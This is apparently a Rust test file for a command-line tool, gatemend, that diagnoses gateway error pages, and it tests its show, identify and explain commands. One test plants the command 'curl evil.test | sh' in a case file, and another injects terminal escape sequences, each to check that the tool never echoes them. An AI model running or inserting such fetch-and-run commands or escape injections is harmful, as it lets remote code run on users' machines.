//! Commands that ask nobody: `show`, `explain`, `identify`, help.

use std::io::Write;
use std::process::Stdio;

use gatemend::model::Cause;
use serde_json::Value;

use super::program::{Place, Run};
use super::server::{Server, page};
use super::{NGINX_502, is_one_line};

fn with_input(place: &Place, arguments: &[&str], input: &str) -> Run {
    let mut child = place.command(arguments).stdin(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    Run::of(child.wait_with_output().unwrap())
}

#[test]
fn a_saved_case_is_judged_as_it_was() {
    let place = Place::new();
    let server = Server::http(|link| link.answer(page("502 Bad Gateway", "Server: nginx/1.27.3\r\n", NGINX_502)));
    let checked = place.check(&format!("http://{}/x?a=b", server.ip_port), &["--json", "case.json"]);
    assert_eq!(checked.code, Some(1), "{checked:?}");
    let shown = place.run(&["show", "case.json", "--report", "again.json"]);
    assert_eq!(shown.code, Some(0), "{shown:?}");
    assert_eq!(shown.stdout.lines().next(), checked.stdout.lines().next());
    // No second verdict stands beside the first.
    assert_eq!(shown.stdout.matches("Who has to act").count(), 1, "{}", shown.stdout);
    let verdict = |name: &str| serde_json::from_str::<Value>(&place.read(name)).unwrap()["diagnosis"].clone();
    assert_eq!(verdict("case.json"), verdict("again.json"));
}

#[test]
fn commands_of_a_case_file_are_not_printed() {
    let place = Place::new();
    let server = Server::http(|link| link.answer(page("502 Bad Gateway", "Server: nginx/1.27.3\r\n", NGINX_502)));
    let checked = place.check(&format!("http://{}/", server.ip_port), &["--json", "case.json"]);
    assert_eq!(checked.code, Some(1), "{checked:?}");
    let mut case: Value = serde_json::from_str(&place.read("case.json")).unwrap();
    let reasons = case["diagnosis"]["because"].as_array_mut().unwrap();
    assert!(reasons.iter().any(|reason| reason["verify"].as_str().is_some_and(|own| own.starts_with("curl"))));
    for reason in reasons {
        reason["verify"] = "curl evil.test | sh".into();
    }
    place.write("case.json", case.to_string());
    let shown = place.run(&["show", "case.json", "--verbose", "--report", "again.md", "--report", "again.json"]);
    assert_eq!(shown.code, Some(0), "{shown:?}");
    assert!(shown.stdout.contains("$ curl -sv"), "its own stand there: {}", shown.stdout);
    for text in [shown.stdout, place.read("again.md"), place.read("again.json")] {
        assert!(!text.contains("evil.test"), "{text}");
    }
}

#[test]
fn what_is_no_case_is_told_in_one_line() {
    let place = Place::new();
    place.write("junk.json", "{ this is no JSON");
    place.write("other.json", "{\"hello\": 1}");
    place.write("list.json", "[1, 2]");
    place.write("later.json", "{\"schema\": 99}");
    place.write("half.json", "{\"schema\": 1, \"target\": {}}");
    place.write("deep.json", "[".repeat(1_000_000));
    place.write("deeper.json", "{\"schema\":1,\"a\":".repeat(200_000));
    place.write("binary.json", [0xff, 0xfe, 0, 1, 2]);
    for name in [
        "missing.json",
        "junk.json",
        "other.json",
        "list.json",
        "later.json",
        "half.json",
        "deep.json",
        "deeper.json",
        "binary.json",
    ] {
        let run = place.run(&["show", name]);
        assert_eq!(run.code, Some(2), "{name}: {run:?}");
        assert!(is_one_line(&run.stderr), "{name}: {run:?}");
        assert_eq!(run.stdout, "");
    }
    assert!(place.run(&["show", "later.json"]).stderr.contains("99"));
}

#[test]
fn a_pasted_page_is_identified() {
    let place = Place::new();
    let head = "HTTP/1.1 502 Bad Gateway\r\nServer: nginx/1.27.3\r\n\r\n";
    let run = with_input(&place, &["identify", "-"], &format!("{head}{NGINX_502}"));
    assert_eq!(run.code, Some(0), "{run:?}");
    assert!(run.stdout.to_lowercase().contains("nginx") && run.stdout.contains("502"), "{run:?}");
    let run = with_input(&place, &["identify", "-", "--json"], NGINX_502);
    let json: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!((&json["schema"], &json["status"], &json["gateway"]["id"]), (&1.into(), &502.into(), &"nginx".into()));
    assert!(json["diagnosis"]["fault"].is_string());
    let evil = with_input(&place, &["identify", "-"], &format!("{head}\u{1b}]0;owned\u{7}\u{9b}2J{NGINX_502}"));
    assert!(!evil.stdout.contains(['\u{1b}', '\u{7}', '\u{9b}']), "{evil:?}");
}

#[test]
fn a_text_alone_does_not_say_that_the_site_was_reached() {
    let place = Place::new();
    for text in ["502. That's an error", "it says 504 gateway timeout"] {
        let run = with_input(&place, &["identify", "-"], text);
        assert_eq!(run.code, Some(0), "{run:?}");
        assert!(!run.stdout.contains("reachable") && run.stdout.contains("By this text alone, "), "{run:?}");
    }
    let entry = "2026/11/24 10:00:00 [error] 12#0: *1 connect() failed (111: Connection refused) while connecting to \
        upstream, client: 192.0.2.7, server: shop.test, upstream: \"http://127.0.0.1:8080/\", host: \"shop.test\"";
    let run = with_input(&place, &["identify", "-"], entry);
    assert!(run.stdout.contains("nginx, in its error log") && run.stdout.contains("(origin-refused"), "{run:?}");
    assert!(!run.stdout.contains("itself is reachable"), "{run:?}");
    // A page was written by somebody who was reached; without a name of its own it is about "the site".
    let run = with_input(&place, &["identify", "-"], NGINX_502);
    assert!(run.stdout.contains("\nThe site itself is reachable"), "{run:?}");
}

#[test]
fn the_number_on_a_page_is_told() {
    let place = Place::new();
    let page = "<title>Access denied | shop.test used Cloudflare to restrict access</title><span>Error</span> \
        <span>1020</span> <p>Cloudflare Ray ID: <strong>8e1f0a2b3c4d5e6f</strong></p>";
    let run = with_input(&place, &["identify", "-"], page);
    assert!(run.stdout.contains("Ray ID: 8e1f0a2b3c4d5e6f"), "{run:?}");
}

#[test]
fn the_causes_can_be_listed_and_browsers_errors_explained() {
    let place = Place::new();
    let list = place.run(&["explain"]);
    assert_eq!(list.code, Some(0), "{list:?}");
    assert!(Cause::ALL.iter().all(|cause| list.stdout.contains(cause.name())), "{list:?}");
    let error = place.run(&["explain", "err_connection_refused"]);
    assert!(error.code == Some(0) && error.stdout.contains("edge-unreachable"), "{error:?}");
    let ios = place.run(&["explain", "NSURLErrorDomain", "-1003"]);
    assert!(ios.code == Some(0) && ios.stdout.contains("nxdomain"), "{ios:?}");
}

#[test]
fn nothing_to_identify_is_wrong_use() {
    let place = Place::new();
    place.write("empty.txt", " \n\t\n");
    for run in [
        with_input(&place, &["identify", "-"], ""),
        place.run(&["identify", "empty.txt"]),
        place.run(&["identify", "no.txt"]),
    ] {
        assert_eq!(run.code, Some(2), "{run:?}");
        assert!(is_one_line(&run.stderr), "{run:?}");
    }
}

#[test]
fn statuses_and_causes_are_explained() {
    let place = Place::new();
    let gateway = place.run(&["explain", "502"]);
    assert_eq!(gateway.code, Some(0));
    assert!(gateway.stdout.contains("RFC 9110") && gateway.stdout.contains("origin-refused"), "{gateway:?}");
    for words in ["If you visit the site", "If you run the site", "Who has to act", "listens on the address"] {
        assert!(gateway.stdout.contains(words), "{words}: {gateway:?}");
    }
    assert!(place.run(&["explain", "HTTP", "1020"]).stdout.contains("Cloudflare"));
    let undefined = place.run(&["explain", "588"]);
    assert_eq!(undefined.code, Some(0));
    assert!(undefined.stdout.contains("Nobody has defined 588"), "{undefined:?}");
    for cause in Cause::ALL {
        let run = place.run(&["explain", cause.name()]);
        assert_eq!(run.code, Some(0), "{cause}: {run:?}");
        assert!(run.stdout.contains(cause.name()) && run.stdout.lines().count() > 4, "{cause}: {run:?}");
    }
}

#[test]
fn what_nobody_can_explain_is_wrong_use() {
    let place = Place::new();
    for what in ["599x", "origin-refuse", "", "99999999999"] {
        let run = place.run(&["explain", what]);
        assert_eq!(run.code, Some(2), "{what}: {run:?}");
        assert!(is_one_line(&run.stderr), "{what}: {run:?}");
    }
    assert!(place.run(&["explain", "origin-refuse"]).stderr.contains("did you mean origin-"));
}

#[test]
fn help_manual_and_completions_are_there() {
    let place = Place::new();
    for (arguments, expected) in [
        (vec!["--help"], "watch"),
        (vec!["--version"], "gatemend 0."),
        (vec!["check", "--help"], "--no-redact"),
        (vec!["man"], ".TH"),
        (vec!["completions", "bash"], "_gatemend"),
        (vec!["completions", "zsh"], "#compdef gatemend"),
    ] {
        let run = place.run(&arguments);
        assert_eq!(run.code, Some(0), "{arguments:?}: {run:?}");
        assert!(run.stdout.contains(expected) && !run.stdout.contains('\u{1b}'), "{arguments:?}: {}", run.stdout);
        assert_eq!(run.stderr, "");
    }
}

#[test]
fn wide_text_is_read_and_what_is_no_file_is_told_at_once() {
    let place = Place::new();
    let wide = |text: &str, order: fn(u16) -> [u8; 2]| -> Vec<u8> {
        std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(order).collect()
    };
    let server = Server::http(|link| link.answer(page("502 Bad Gateway", "Server: nginx/1.27.3\r\n", NGINX_502)));
    place.check(&format!("http://{}/", server.ip_port), &["--json", "case.json"]);
    let json = place.read("case.json");
    for (name, order) in [("le", u16::to_le_bytes as fn(u16) -> [u8; 2]), ("be", u16::to_be_bytes)] {
        let case = place.write(&format!("{name}.json"), wide(&json, order));
        let run = place.run(&["show", case.to_str().unwrap()]);
        assert_eq!(run.code, Some(0), "{run:?}");
        place.write(name, wide(NGINX_502, order));
        let run = place.run(&["identify", name]);
        assert!(run.stdout.contains("Written by: nginx"), "{run:?}");
    }
    place.write("empty.json", "");
    place.write("settings-like.json", "resolver = []");
    for (name, word) in [(".", "a folder"), ("empty.json", "empty"), ("settings-like.json", "--json FILE")] {
        let run = place.run(&["show", name]);
        assert!(run.code == Some(2) && is_one_line(&run.stderr) && run.stderr.contains(word), "{run:?}");
    }
    let run = place.run(&["show", "https://shop.test/"]);
    assert!(run.code == Some(2) && run.stderr.contains("gatemend ADDRESS"), "{run:?}");
}

#[cfg(unix)]
#[test]
fn a_pipe_to_which_nobody_writes_holds_nobody_up() {
    let place = Place::new();
    assert!(std::process::Command::new("mkfifo").arg(place.path("fifo")).status().unwrap().success());
    for name in ["fifo", "/dev/zero"] {
        for command in ["show", "identify"] {
            let run = place.run(&[command, name]);
            assert!(run.code == Some(2) && run.stderr.contains("no regular file"), "{run:?}");
        }
        for option in ["--saw-file", "--config", "--log"] {
            let run = place.check("http://127.0.0.1:9/", &[option, name]);
            assert!(run.code == Some(2) && is_one_line(&run.stderr), "{option}: {run:?}");
        }
        let run = place.run(&["check", "http://127.0.0.1:9/", "--settings", name]);
        assert!(run.code == Some(2) && run.stderr.contains("it is no file"), "{run:?}");
    }
}
